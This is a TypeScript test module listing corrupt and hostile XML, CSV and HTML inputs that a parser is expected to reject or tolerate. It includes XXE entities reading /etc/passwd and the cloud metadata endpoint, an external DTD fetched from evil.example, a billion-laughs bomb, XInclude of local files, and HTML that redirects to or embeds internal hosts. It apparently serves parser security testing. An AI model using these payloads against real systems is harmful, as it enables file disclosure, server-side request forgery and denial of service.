import { verbatim } from './answer-format.js';
import { type Expectation, type Misbehaviour } from './misbehaviour.js';
import { allOf, csv, fixedColumns, has, html, changeFirst, changeText, xml } from './corrupt-records.js';

const unsafe: Expectation = { ends: 'fails', codes: ['SOURCE_UNSAFE'] };
const brokenCodes = [
  'SOURCE_CHANGED',
  'SOURCE_TRUNCATED',
  'SOURCE_UNSAFE',
  'SOURCE_NOT_JSON',
  'SOURCE_EMPTY',
  'SOURCE_TOO_LARGE',
  'SOURCE_INCOMPLETE',
];
const fails: Expectation = { ends: 'fails', codes: brokenCodes };
const mayComplete: Expectation = { ends: 'may complete', codes: brokenCodes };

/** Misbehaviour that adds a document type before the root element, and replaces a title. */
function withDoctype(name: string, declarations: string, title: string): Misbehaviour {
  return {
    name,
    appliesTo: allOf(xml, has('title')),
    apply: changeText((body, { edit }) => {
      const changed = edit(body, ([first, ...rest]) =>
        first === undefined ? [] : [first.set('title', verbatim(title)), ...rest],
      );
      return changed.replace(/<(?![?!])(?=\w)/, `<!DOCTYPE x [${declarations}]>\n<`);
    }),
    expects: unsafe,
  };
}

const billionLaughs = Array.from(
  { length: 10 },
  (_, level) => `<!ENTITY l${level + 1} "${`&l${level};`.repeat(10)}">`,
).join('');

const xmlForms: readonly Misbehaviour[] = [
  withDoctype('declares a document type', '', 'Road Salt'),
  withDoctype('declares an entity of a local file', '<!ENTITY secret SYSTEM "file:///etc/passwd">', '&secret;'),
  withDoctype(
    'declares an entity of another host',
    '<!ENTITY other SYSTEM "http://169.254.169.254/latest/meta-data/">',
    '&other;',
  ),
  withDoctype('loads an external DTD', '<!ENTITY % all SYSTEM "http://evil.example/all.dtd"> %all;', 'Road Salt'),
  withDoctype('declares a billion laughs', `<!ENTITY l0 "ha">${billionLaughs}`, '&l10;'),
  withDoctype('repeats one long entity', `<!ENTITY long "${'a'.repeat(100_000)}">`, '&long;'.repeat(1000)),
  {
    name: 'has an undeclared entity',
    appliesTo: allOf(xml, has('title')),
    apply: changeFirst((record) => record.set('title', verbatim('Road &nbsp;Salt &unknown; R&D'))),
    expects: mayComplete,
  },
  {
    name: 'has a forbidden character',
    appliesTo: allOf(xml, has('title')),
    apply: changeFirst((record) => record.set('title', verbatim('Road \u0008Salt &#0; &#x1F;'))),
    expects: mayComplete,
  },
  {
    name: 'never closes a CDATA section',
    appliesTo: allOf(xml, has('title')),
    apply: changeFirst((record) => record.set('title', verbatim('<![CDATA[Road Salt'))),
    expects: mayComplete,
  },
  {
    name: 'never closes a comment',
    appliesTo: allOf(xml, has('title')),
    apply: changeFirst((record) => record.set('title', verbatim('<!-- Road Salt'))),
    expects: mayComplete,
  },
  {
    name: 'closes an element that it never opened',
    appliesTo: allOf(xml, has('title')),
    apply: changeFirst((record) => record.set('title', verbatim('Road</title></b>Salt'))),
    expects: mayComplete,
  },
  {
    name: 'nests elements ten thousand levels deep',
    appliesTo: allOf(xml, has('title')),
    apply: changeFirst((record) => record.set('title', verbatim('<b>'.repeat(10_000) + '</b>'.repeat(10_000)))),
    expects: mayComplete,
  },
  {
    name: 'has an element with a hundred thousand attributes',
    appliesTo: allOf(xml, has('title')),
    apply: changeFirst((record) =>
      record.set('title', verbatim(`<b ${Array.from({ length: 100_000 }, (_, index) => `a${index}=""`).join(' ')}/>`)),
    ),
    expects: mayComplete,
  },
  {
    name: 'includes another document',
    appliesTo: allOf(xml, has('title')),
    apply: changeFirst((record) =>
      record.set(
        'title',
        verbatim('<xi:include xmlns:xi="http://www.w3.org/2001/XInclude" href="file:///etc/passwd" parse="text"/>'),
      ),
    ),
    expects: mayComplete,
  },
  {
    name: 'declares another charset',
    appliesTo: xml,
    apply: changeText((body) => body.replace(/^<\?xml[^>]*\?>/, '<?xml version="1.0" encoding="UTF-7"?>')),
    expects: mayComplete,
  },
];

const csvForms: readonly Misbehaviour[] = [
  {
    name: 'never closes a quote',
    appliesTo: allOf(csv, has('title')),
    apply: changeFirst((record) => record.set('title', verbatim('"Road Salt'))),
    expects: mayComplete,
  },
  {
    name: 'has quotes in the middle of a cell',
    appliesTo: allOf(csv, has('title')),
    apply: changeFirst((record) => record.set('title', verbatim('12" pipe'))),
    expects: mayComplete,
  },
  {
    name: 'has an unquoted comma in a cell',
    appliesTo: allOf(csv, has('title')),
    apply: changeFirst((record) => record.set('title', verbatim('Road Salt, Sand'))),
    expects: mayComplete,
  },
  {
    name: 'has an unquoted line break in a cell',
    appliesTo: allOf(csv, has('title')),
    apply: changeFirst((record) => record.set('title', verbatim('Road\r\nSalt'))),
    expects: mayComplete,
  },
  {
    name: 'separates its cells with semicolons',
    appliesTo: fixedColumns,
    apply: changeText((body) => body.replaceAll(',', ';')),
    expects: fails,
  },
  {
    name: 'has an additional column',
    appliesTo: fixedColumns,
    apply: changeText((body) => body.replace('NoticeId,', 'NoticeId,NewColumn,')),
    expects: fails,
  },
  {
    name: 'lacks a column',
    appliesTo: fixedColumns,
    apply: changeText((body) => body.replace('Title,', '')),
    expects: fails,
  },
  {
    name: 'has its columns in another order',
    appliesTo: fixedColumns,
    apply: changeText((body) => body.replace('NoticeId,Title', 'Title,NoticeId')),
    expects: fails,
  },
  {
    name: 'has no header',
    appliesTo: csv,
    apply: changeText((body) => body.slice(body.indexOf('\n') + 1)),
    expects: fails,
  },
  {
    name: 'has only a header',
    appliesTo: csv,
    apply: changeText((body) => body.slice(0, body.indexOf('\n') + 1)),
    expects: fails,
  },
  {
    name: 'ends its lines with LF',
    appliesTo: csv,
    apply: changeText((body) => body.replaceAll('\r\n', '\n')),
    expects: { ends: 'completes' },
  },
  {
    name: 'ends its lines with CR',
    appliesTo: fixedColumns,
    apply: changeText((body) => body.replaceAll('\r\n', '\r')),
    expects: fails,
  },
  {
    name: 'has empty lines',
    appliesTo: csv,
    apply: changeText((body) => body.replaceAll('\r\n', '\r\n\r\n')),
    expects: { ends: 'completes' },
  },
];

const htmlForms: readonly Misbehaviour[] = [
  {
    name: 'renders its records with a script',
    appliesTo: html,
    apply: changeText((body) => body.replace(/<main>[^]*<\/main>/, '<main><div id="app"></div></main>')),
    expects: fails,
  },
  {
    name: 'hides its records in a comment',
    appliesTo: html,
    apply: changeText((body) => body.replace(/<main>[^]*<\/main>/, (main) => `<!-- ${main} -->`)),
    expects: fails,
  },
  {
    name: 'redirects with a meta tag',
    appliesTo: html,
    apply: changeText((body) =>
      body.replace(
        '<head>',
        '<head><meta http-equiv="refresh" content="0;url=http://169.254.169.254/"><base href="file:///etc/">',
      ),
    ),
    expects: mayComplete,
  },
  {
    name: 'embeds resources of other hosts',
    appliesTo: html,
    apply: changeText((body) =>
      body.replace(
        '<main>',
        '<main><iframe src="http://10.0.0.1/"></iframe><img src="http://10.0.0.1/x.png"><script src="http://10.0.0.1/x.js"></script><object data="file:///etc/passwd"></object>',
      ),
    ),
    expects: mayComplete,
  },
  {
    name: 'nests its page a hundred thousand levels deep',
    appliesTo: html,
    apply: changeText((body) => body.replace('<main>', `<main>${'<div>'.repeat(100_000)}`)),
    expects: { ends: 'fails', codes: ['SOURCE_TOO_LARGE'] },
  },
  {
    name: 'has a page of two hundred thousand elements',
    appliesTo: html,
    apply: changeText((body) => body.replace('<main>', `<main>${'<p>x</p>'.repeat(200_000)}`)),
    expects: { ends: 'fails', codes: ['SOURCE_TOO_LARGE'] },
  },
  {
    name: 'closes none of its elements',
    appliesTo: html,
    apply: changeText((body) => body.replaceAll(/<\/(?!body|html|main|script|style|title)[a-z]+>/g, '')),
    expects: mayComplete,
  },
  {
    name: 'displays a login form',
    appliesTo: html,
    apply: changeText((body) =>
      body.replace(
        /<main>[^]*<\/main>/,
        '<main><form action="/login"><input name="user"><input type="password"></form></main>',
      ),
    ),
    expects: fails,
  },
];

/** Faults that only XML, CSV or HTML can have. */
export const markup: readonly Misbehaviour[] = [...xmlForms, ...csvForms, ...htmlForms];
